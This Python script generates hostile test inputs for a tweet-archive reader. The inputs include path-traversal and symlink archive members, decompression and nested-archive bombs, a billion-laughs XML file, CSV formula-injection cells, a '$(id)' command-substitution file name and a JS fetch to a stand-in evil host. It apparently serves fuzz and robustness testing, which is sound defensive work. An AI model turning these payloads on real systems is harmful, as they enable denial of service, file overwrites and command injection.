"""Writes files that are made to harm whoever reads them: attacks.py FOLDER MEGABYTES NAME.

MEGABYTES is how large the large ones are once they are opened. NAME is a part of the names of members that
would lie outside of where they are read. The name of each file is told on a line."""

import bz2
import gzip
import io
import json
import lzma
import pathlib
import struct
import sys
import tarfile
import zipfile

FOLDER = pathlib.Path(sys.argv[1])
SIZE = int(sys.argv[2]) << 20
EVIL = sys.argv[3]


def tweet(number, text="#plain @ana", **more):
    return json.dumps({"id_str": str(1262413178860556288 + number), "text": text, **more})


LINE = (tweet(1) + "\n").encode()


def tweets(count, of=LINE):
    return b"".join((tweet(number) + "\n").encode() for number in range(count))


def tar(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for member, data in members:
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return out.getvalue()


def member(name, kind=tarfile.REGTYPE, link=""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


def zipped(members, kind=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", kind) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def zstd_run(byte, size):
    """A frame of runs, each of which stands for 128 KiB in four bytes. Source: RFC 8878, section 3.1.1."""
    blocks = max(1, size >> 17)
    out = bytearray(struct.pack("<IBB", 0xFD2FB528, 0, 0x38))
    for number in range(blocks):
        head = (1 << 17) << 3 | 1 << 1 | (number == blocks - 1)
        out += head.to_bytes(3, "little") + bytes([byte])
    return bytes(out)


def paths():
    names = [
        f"../{EVIL}.jsonl", f"../../../../tmp/{EVIL}.jsonl", f"/tmp/{EVIL}.jsonl", f"a/../../{EVIL}.jsonl",
        f"..\\{EVIL}.jsonl", f"C:\\{EVIL}.jsonl", f"\x1b]0;{EVIL}\x07.jsonl", f"\u202e{EVIL}.jsonl",
        f"a\n{EVIL}.jsonl", f"-{EVIL}.jsonl", f"~/{EVIL}.jsonl", f"$(id){EVIL}.jsonl", "x" * 5000 + ".jsonl",
        "d/" * 2000 + "x.jsonl", "%s%n.jsonl", "tweets.sqlite", ".jsonl", "\u0301/\u0301.jsonl",
    ]
    return [(name, (tweet(100 + place) + "\n").encode()) for place, name in enumerate(names)]


def archives():
    plain = paths()
    yield "paths.tar", tar([(member(name), data) for name, data in plain])
    yield "paths.zip", zipped(plain)
    links = [
        (member("link.jsonl", tarfile.SYMTYPE, "/nonexistent/secret"), b""),
        (member("link.jsonl"), LINE),
        (member(f"dir{EVIL}", tarfile.SYMTYPE, "/tmp"), b""),
        (member(f"dir{EVIL}/{EVIL}.jsonl"), LINE),
        (member("hard.jsonl", tarfile.LNKTYPE, "link.jsonl"), b""),
        (member("null.jsonl", tarfile.CHRTYPE), b""), (member("disk.jsonl", tarfile.BLKTYPE), b""),
        (member("pipe.jsonl", tarfile.FIFOTYPE), b""), (member("folder.jsonl", tarfile.DIRTYPE), b""),
        (member("strange.jsonl", b"?"), LINE),
    ]
    yield "links.tar", tar(links)
    whole = bytearray(tar([(member("a.jsonl"), LINE)]))
    yield "cut.tar", bytes(whole[:600])
    for name, field in (("huge.tar", b"77777777777\0"), ("negative.tar", b"\xff" * 12)):
        bad = bytearray(whole)
        bad[124:136] = field
        bad[148:156] = b" " * 8
        bad[148:156] = b"%06o\0 " % sum(bad[:512])
        yield name, bytes(bad)
    nul = bytearray(zipped([("a_b.jsonl", LINE)]))
    yield "nul.zip", bytes(nul).replace(b"a_b.jsonl", b"a\0b.jsonl")
    yield "twice.zip", zipped([("a.jsonl", LINE)]) + zipped([("b.jsonl", LINE)])
    wrong = zipped([("a.jsonl", LINE * 50)])
    yield "crc.zip", wrong.replace(wrong[14:18], b"\xde\xad\xbe\xef")
    yield "size.zip", wrong.replace(struct.pack("<I", len(LINE) * 50), b"\xff\xff\xff\x7f")
    yield "many.zip", zipped([(f"{number}.jsonl", b"") for number in range(3000)])
    yield "many.tar", tar([(member(f"{number}.jsonl"), b"") for number in range(3000)])


def bombs():
    part = min(SIZE, 16 << 20)
    for name, byte in (("nul", b"\0"), ("blank", b" "), ("line", b"\n"), ("bracket", b"["), ("quote", b"\"a")):
        data = byte * (part // len(byte))
        times = max(1, SIZE // part)
        yield f"{name}.gz", gzip.compress(data, 6) * times
        yield f"{name}.bz2", bz2.compress(data) * times
        yield f"{name}.xz", lzma.compress(data, preset=0) * times
        yield f"{name}.zst", zstd_run(byte[0], SIZE)
    yield "bomb.zip", zipped([(f"{number}.jsonl", b" " * part) for number in range(max(1, SIZE // part))])
    # One record without an end, of which all would have to be kept.
    head = b'{"id_str":"1","text":"'
    yield "string.jsonl.gz", gzip.compress(head) + gzip.compress(b"a" * part) * max(1, SIZE // part)
    yield "string.csv.gz", gzip.compress(b"id,text\n1,\"") + gzip.compress(b"a" * part) * (SIZE // part or 1)
    yield "row.csv.gz", gzip.compress(b"id,text\n1,") + gzip.compress(b"a" * part) * max(1, SIZE // part)
    yield "list.jsonl.gz", gzip.compress(b'{"id_str":"1","a":[') + gzip.compress(b"1," * (part // 2)) * max(1, SIZE // part)
    yield "key.jsonl.gz", gzip.compress(b'{"') + gzip.compress(b"k" * part) * max(1, SIZE // part)
    yield "array.json.gz", gzip.compress(b"[") + gzip.compress(LINE.strip() + b",") * 20000
    data = LINE
    for depth in range(40):
        data = gzip.compress(data) if depth % 2 else lzma.compress(data, preset=0)
    yield "nested.gz", data
    data = LINE
    for depth in range(20):
        data = zipped([(f"{depth}.zip" if depth else "0.jsonl", data)])
    yield "nested.zip", data
    data = LINE
    for depth in range(20):
        data = tar([(member(f"{depth}.tar" if depth else "0.jsonl"), data)])
    yield "nested.tar", data
    # A gzip file that is itself when it is opened would never end; one that says to be of another size is cut.
    lying = bytearray(gzip.compress(LINE * 100))
    lying[-4:] = b"\xff\xff\xff\xff"
    yield "size.gz", bytes(lying)
    named = bytearray(b"\x1f\x8b\x08\x18\0\0\0\0\0\xff") + b"n" * (1 << 20) + b"\0" + b"c" * (1 << 20)
    yield "name.gz", bytes(named)


def records():
    size = min(SIZE, 64 << 20)
    big = max(1 << 16, size // 8)
    for name, word in (("a", "a"), ("marks", "e\u0301\u0316"), ("wide", "\ufdfa"), ("tags", "<a \"'"), ("urls", "http://a.b/?")):
        long = word * (big // len(word.encode()))
        yield f"hashtag-{name}.jsonl", (
            tweet(1, "x", entities={"hashtags": [{"text": long}], "user_mentions": [{"screen_name": long}]})
            + "\n" + tweet(2) + "\n").encode()
        yield f"text-{name}.jsonl", (tweet(1, "#" + long) + "\n" + tweet(2, "@" + long + " #x") + "\n").encode()
        yield f"name-{name}.jsonl", (tweet(1, "x", user={"screen_name": long, "name": long}) + "\n").encode()
        yield f"id-{name}.jsonl", (json.dumps({"id_str": long, "text": "x"}) + "\n" + tweet(2) + "\n").encode()
    yield "term.json", json.dumps(
        {"statuses": [json.loads(tweet(1))], "search_metadata": {"query": "a" * min(big, 10 << 20)}}).encode()
    count = max(2000, size // 160)
    yield "mentions.jsonl", (
        tweet(1, "x", entities={"hashtags": [{"text": f"h{number}"} for number in range(count)],
                                "user_mentions": [{"screen_name": "same"}] * count}) + "\n").encode()
    yield "mentions-text.jsonl", (tweet(1, " ".join(f"#h{number}" for number in range(count))) + "\n").encode()
    for name, left, right in (("arrays", "[", "]"), ("objects", '{"a":', "}"), ("both", '[{"a":', "}]")):
        depth = big // 8
        yield f"deep-{name}.jsonl", (left * depth + "1" + right * depth + "\n").encode() + LINE
        yield f"deep-in-{name}.jsonl", (
            '{"id_str":"3","text":"x","entities":' + left * depth + "1" + right * depth + "}\n").encode() + LINE
        yield f"open-{name}.jsonl", (left * depth).encode()
    keys = ",".join(f'"k{number}":1' for number in range(count))
    yield "many-keys.jsonl", ('{"id_str":"1","text":"x",' + keys + "}\n").encode()
    yield "same-keys.jsonl", (
        '{"id_str":"1","text":"x",' + '"text":"y","id_str":"2",' * count + '"entities":{}}\n').encode()
    numbers = [
        "1e999", "-1e999", "9" * 5000, "0." + "0" * 5000 + "1", "1E+99999999999", "-0", "18446744073709551616",
        "9223372036854775807", "-9223372036854775808", "1.7976931348623157e309",
    ]
    yield "numbers.jsonl", "".join(
        f'{{"id":{number},"id_str":"{place}","text":"x","created_at":{number},"retweet_count":{number},'
        f'"timestamp_ms":"{number}","entities":{{"hashtags":[{{"text":"a","indices":[{number},{number}]}}]}}}}\n'
        for place, number in enumerate(numbers)).encode()
    times = ["Fri Nov 01 12:00:00 +0000 99999", "9999999-01-01T00:00:00Z", "-0001-01-01T00:00:00Z",
             "0000-00-00T00:00:00Z", "2019-02-30T25:61:61Z", "Fri Nov 01 12:00:00 +9999 2019", "\x1b[2J", "0" * 9999]
    yield "times.jsonl", "".join(tweet(place, "x #a", created_at=time) + "\n" for place, time in enumerate(times)).encode()
    bad = [b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x80" * 300, b"\xf8\x88\x80\x80\x80"]
    yield "not-utf8.jsonl", b"".join(
        b'{"id_str":"%d","text":"#a%s @b%s","user":{"screen_name":"%s"}}\n' % (place, data, data, data)
        for place, data in enumerate(bad))
    escapes = ["\\ud83d", "\\udc00", "\\u0000", "\\ud83d\\ud83d", "\\x41", "\\u12", "\\", "\\ud83dx"]
    yield "escapes.jsonl", "".join(
        '{"id_str":"%d","text":"#a%s","user":{"screen_name":"b%s"}}\n' % (place, text, text)
        for place, text in enumerate(escapes)).encode()
    yield "marks.jsonl", b"\xef\xbb\xbf" * 1000 + LINE
    yield "utf16.jsonl", b"\xff\xfe" + (tweet(1) + "\n").encode("utf-16-le") + b"\x00\xd8\n\x00"
    yield "html.html", b"<html><script>" + b"<a " * count
    yield "entity.xml", (b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b'<!ENTITY b "&a;&a;&a;&a;">' * 100 + b"]><x>&b;</x>")
    yield "table.csv", b"id,text,hashtags\n" + b"".join(b'%d,"=cmd|""\x1b[2J",["#a%d"]\n' % (n, n) for n in range(500))
    yield "columns.csv", b"id,text" + b",c" * count + b"\n1,x\n"
    yield "cells.csv", b"id,text\n" + b"1" + b"," * count + b"\n2,x\n"
    yield "python.csv", b"id,text,hashtags\n1,x,\"" + b"[" * count + b"\"\n2,x,\"['a', __import__('os')]\"\n"
    yield "export.js", b"window.YTD.tweets.part0 = " + b"[" * count
    yield "code.js", b"window.YTD.tweets.part0 = [" + LINE.strip() + b"]; fetch('http://evil.example')"


def main():
    for make in (archives, bombs, records):
        for name, data in make():
            (FOLDER / name).write_bytes(data)
            print(name)


if __name__ == "__main__":
    main()
